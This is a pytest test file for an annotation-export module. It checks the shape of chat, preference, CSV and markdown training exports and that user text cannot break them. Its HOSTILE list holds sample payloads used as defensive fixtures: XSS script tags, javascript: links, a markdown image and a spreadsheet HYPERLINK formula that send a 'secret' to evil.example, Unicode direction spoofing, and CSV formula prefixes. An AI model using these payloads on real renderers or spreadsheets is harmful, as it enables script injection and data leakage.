"""Export formats: which annotations each has, their shape, and that users' texts cannot
break them.
"""

import csv
import io
import json
from typing import Any

import pandas as pd
import pytest

from core.annotations.exports.examples import Example
from core.annotations.exports.exclusions import ExclusionReason
from core.annotations.exports.formats import CSV_COLUMNS, FORMATS, FormatName
from core.annotations.exports.readers import is_readable
from core.annotations.exports.transcripts import StoredTurn
from core.annotations.schemas import AnnotationType
from core.presentation import csv_lines

SYSTEM, QUESTION = StoredTurn("system", "Be kind."), StoredTurn("user", "Where is my order?")
ORIGINAL, BETTER = "I do not know.", "It is on its way."
HOSTILE = [
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret) [click](javascript:alert(1)) [x]: javascript:alert(1)",
    "\u202egnp.exe\u202c \u2066left open",
    '=HYPERLINK("https://evil.example";"a")',
    '+1\n@SUM(A1)\r\n-2\t"quoted",;',
    "# Heading\n## Another\n---\nline\n===\n```python\n## not a heading\n",
    "\u061c\u200e\u200f\u2069 marks",
    "\u2028\u2029\x00\x07 \ud83d\ude00 \ud800",
    "x" * 200_000,
    "]()\\`*_{}[]()#+-.!~$|<>",
]


def example(
    annotation_type: AnnotationType = AnnotationType.CORRECTION,
    suggested: str | None = BETTER,
    said: StoredTurn | None = StoredTurn("assistant", ORIGINAL),  # noqa: B008  frozen
    before: tuple[StoredTurn, ...] = (SYSTEM, QUESTION),
    **others: Any,  # noqa: ANN401
) -> Example:
    facts = {
        "annotation_type": str(annotation_type),
        "tags": ["tone"],
        "content": "too short",
        **others.pop("facts", {}),
    }
    return Example(annotation_type, suggested, facts, said, before, **others)


def written(name: FormatName, given: Example) -> bytes:
    found = FORMATS[name].write(given)
    assert isinstance(found, bytes)
    assert is_readable(name, found)
    return found


def line(name: FormatName, given: Example) -> Any:  # noqa: ANN401  any JSON
    return json.loads(written(name, given))


def test_a_correction_is_an_example_with_the_suggested_answer() -> None:
    assert line(FormatName.OPENAI_CHAT, example()) == {
        "messages": [
            {"role": "system", "content": "Be kind."},
            {"role": "user", "content": "Where is my order?"},
            {"role": "assistant", "content": BETTER},
        ]
    }


def test_an_approved_answer_is_an_example_as_it_was() -> None:
    given = example(AnnotationType.APPROVED, None)
    assert line(FormatName.OPENAI_CHAT, given)["messages"][-1] == {
        "role": "assistant",
        "content": ORIGINAL,
    }
    assert line(FormatName.SHAREGPT, given) == {
        "conversations": [
            {"from": "system", "value": "Be kind."},
            {"from": "human", "value": "Where is my order?"},
            {"from": "gpt", "value": ORIGINAL},
        ]
    }


def test_a_suggestion_for_an_approved_answer_is_trained_on() -> None:
    # A reviewer may approve an answer and still write a better one
    given = example(AnnotationType.APPROVED)
    chat, rated = (line(name, given) for name in (FormatName.OPENAI_CHAT, FormatName.TRL_UNPAIRED))
    assert chat["messages"][-1]["content"] == BETTER
    assert (rated["completion"][0]["content"], rated["label"]) == (BETTER, True)
    assert BETTER in written(FormatName.KB_MARKDOWN, given).decode()


@pytest.mark.parametrize("annotation_type", [AnnotationType.CORRECTION, AnnotationType.IMPROVEMENT])
def test_a_suggestion_is_preferred_to_the_original(annotation_type: AnnotationType) -> None:
    prompt = [
        {"role": "system", "content": "Be kind."},
        {"role": "user", "content": "Where is my order?"},
    ]
    better, worse = (
        [{"role": "assistant", "content": BETTER}],
        [{"role": "assistant", "content": ORIGINAL}],
    )
    given = example(annotation_type)
    assert line(FormatName.TRL_PREFERENCE, given) == {
        "prompt": prompt,
        "chosen": better,
        "rejected": worse,
    }
    assert line(FormatName.OPENAI_DPO, given) == {
        "input": {"messages": prompt, "tools": [], "parallel_tool_calls": True},
        "preferred_output": better,
        "non_preferred_output": worse,
    }


@pytest.mark.parametrize(
    ("annotation_type", "label"), [(AnnotationType.APPROVED, True), (AnnotationType.FLAG, False)]
)
def test_approved_is_good_and_flagged_is_bad(annotation_type: AnnotationType, label: bool) -> None:
    found = line(FormatName.TRL_UNPAIRED, example(annotation_type, None))
    assert (found["completion"], found["label"]) == (
        [{"role": "assistant", "content": ORIGINAL}],
        label,
    )


@pytest.mark.parametrize(
    ("name", "given", "reason"),
    [
        (FormatName.OPENAI_CHAT, example(AnnotationType.FLAG), ExclusionReason.NO_EXAMPLE),
        (FormatName.OPENAI_CHAT, example(AnnotationType.IMPROVEMENT), ExclusionReason.NO_EXAMPLE),
        (FormatName.OPENAI_CHAT, example(suggested=" "), ExclusionReason.NO_SUGGESTION),
        (FormatName.OPENAI_CHAT, example(said=None), ExclusionReason.MESSAGE_GONE),
        (FormatName.OPENAI_CHAT, example(said=QUESTION), ExclusionReason.NOT_AN_ANSWER),
        (FormatName.OPENAI_CHAT, example(before=(SYSTEM,)), ExclusionReason.NO_QUESTION),
        (FormatName.OPENAI_CHAT, example(is_overruled=True), ExclusionReason.OVERRULED),
        (
            FormatName.OPENAI_CHAT,
            example(AnnotationType.APPROVED, None, said=StoredTurn("assistant", "")),
            ExclusionReason.EMPTY,
        ),
        (FormatName.OPENAI_DPO, example(suggested=ORIGINAL + "\n"), ExclusionReason.SAME_ANSWER),
        (FormatName.OPENAI_DPO, example(AnnotationType.APPROVED), ExclusionReason.NO_EXAMPLE),
        (
            FormatName.OPENAI_DPO,
            example(AnnotationType.IMPROVEMENT, None),
            ExclusionReason.NO_SUGGESTION,
        ),
        (FormatName.OPENAI_DPO, example(said=StoredTurn("assistant", "")), ExclusionReason.EMPTY),
        (FormatName.TRL_UNPAIRED, example(), ExclusionReason.NO_EXAMPLE),
        (FormatName.KB_MARKDOWN, example(AnnotationType.FLAG), ExclusionReason.NO_EXAMPLE),
    ],
)
def test_what_is_left_out_says_why(
    name: FormatName, given: Example, reason: ExclusionReason
) -> None:
    assert FORMATS[name].write(given) is reason


def test_what_nobody_said_is_no_part_of_an_example() -> None:
    given = example(
        before=(
            QUESTION,
            StoredTurn("assistant", ""),
            StoredTurn("system", " "),
            StoredTurn("user", "Hello?"),
        )
    )
    assert [each["content"] for each in line(FormatName.OPENAI_CHAT, given)["messages"]] == [
        "Where is my order?",
        "Hello?",
        BETTER,
    ]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("name", list(FormatName))
def test_hostile_text_stays_within_its_line(name: FormatName, text: str) -> None:
    annotation_type = (
        AnnotationType.FLAG if name is FormatName.TRL_UNPAIRED else AnnotationType.CORRECTION
    )
    before = (StoredTurn("system", text), StoredTurn("user", text))
    given = example(
        annotation_type,
        text,
        StoredTurn("assistant", text + "!"),
        before,
        facts={"content": text, "user_id": text},
    )
    found = written(name, given)
    if FORMATS[name].ending == "jsonl":
        assert found.count(b"\n") == 1
        assert not any(
            mark in found.decode() for mark in "\u061c\u200e\u200f\u202e\u2066\u2069\u2028\u2029"
        )


@pytest.mark.parametrize("text", [each for each in HOSTILE if "\ud800" not in each])
def test_training_lines_hold_the_text_to_the_character(text: str) -> None:
    found = line(
        FormatName.TRL_PREFERENCE, example(suggested=text, said=StoredTurn("assistant", text + "!"))
    )
    assert (found["chosen"][0]["content"], found["rejected"][0]["content"]) == (text, text + "!")


def test_half_a_character_becomes_a_question_mark() -> None:
    assert (
        line(FormatName.OPENAI_CHAT, example(suggested="a\ud800b"))["messages"][-1]["content"]
        == "a?b"
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_two_readers_of_csv_read_the_same_and_no_formula(text: str) -> None:
    rows = [example(facts={"content": text}, said=StoredTurn("assistant", text)), example()]
    file = (
        csv_lines.line(CSV_COLUMNS)
        + b"".join(written(FormatName.CSV, row) for row in rows).decode()
    )
    own = list(csv.DictReader(io.StringIO(file, newline="")))
    table = pd.read_csv(io.StringIO(file), dtype=str, keep_default_na=False, lineterminator=None)
    assert len(own) == len(table) == 2
    assert own[0]["message"].replace("\r\n", "\n") == str(table["message"][0]).replace("\r\n", "\n")
    assert not own[0]["content"].startswith(("=", "+", "-", "@"))
    assert own[1]["message"] == ORIGINAL
    assert json.loads(own[1]["tags"]) == ["tone"]


def test_markdown_loads_and_runs_nothing_and_keeps_to_its_section() -> None:
    sections = [
        written(
            FormatName.KB_MARKDOWN, example(suggested=text, before=(StoredTurn("user", text),))
        ).decode()
        for text in HOSTILE
    ]
    for section in sections:
        assert "<script" not in section
        assert "](javascript" not in section
        assert "[x]: javascript" not in section
        assert "![" not in section.replace("\\!", "")
        assert "\u202e" not in section
    assert "".join(sections).count("\n```") % 2 == 0


def test_markdown_keeps_what_an_answer_needs() -> None:
    answer = (
        "Go to [your orders](https://shop.example/orders), then:\n\n# Steps\n\n1. `a < "
        "b`\n\n```html\n<b>\n```"
    )
    section = written(FormatName.KB_MARKDOWN, example(suggested=answer)).decode()
    assert section.startswith(
        "## Where is my order?\n\n> Where is my order?\n\nGo to [your "
        "orders](https://shop.example/orders)"
    )
    assert "\n### Steps\n" in section
    assert "```html\n<b>\n```" in section


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (FormatName.OPENAI_CHAT, b'{"messages": [{"role": "user", "content": "a"}]}\n'),
        (FormatName.OPENAI_CHAT, b'{"messages": [{"role": "assistant", "content": "a"}]}\n'),
        (FormatName.OPENAI_CHAT, b'{"messages": [{"role": "robot", "content": "a"}]}\n'),
        (FormatName.OPENAI_DPO, b'{"input": {"messages": []}}\n'),
        (
            FormatName.TRL_UNPAIRED,
            b'{"prompt": [{"role": "user", "content": "a"}], "completion": [], "label": true}\n',
        ),
        (
            FormatName.SHAREGPT,
            (
                b'{"conversations": [{"from": "human", "value": "a"}, {"from": "human", "value": '
                b'"b"}]}\n'
            ),
        ),
        (FormatName.KB_MARKDOWN, b"## a\n\n## b\n"),
        (FormatName.KB_MARKDOWN, b"## a\n\n```\nb\n"),
        (FormatName.CSV, b"a,b\r\n"),
        (FormatName.JSONL, b"[1]\n"),
        (FormatName.JSONL, b"\xff\n"),
    ],
)
def test_a_reader_refuses_what_is_not_its_format(name: FormatName, text: bytes) -> None:
    assert not is_readable(name, text)
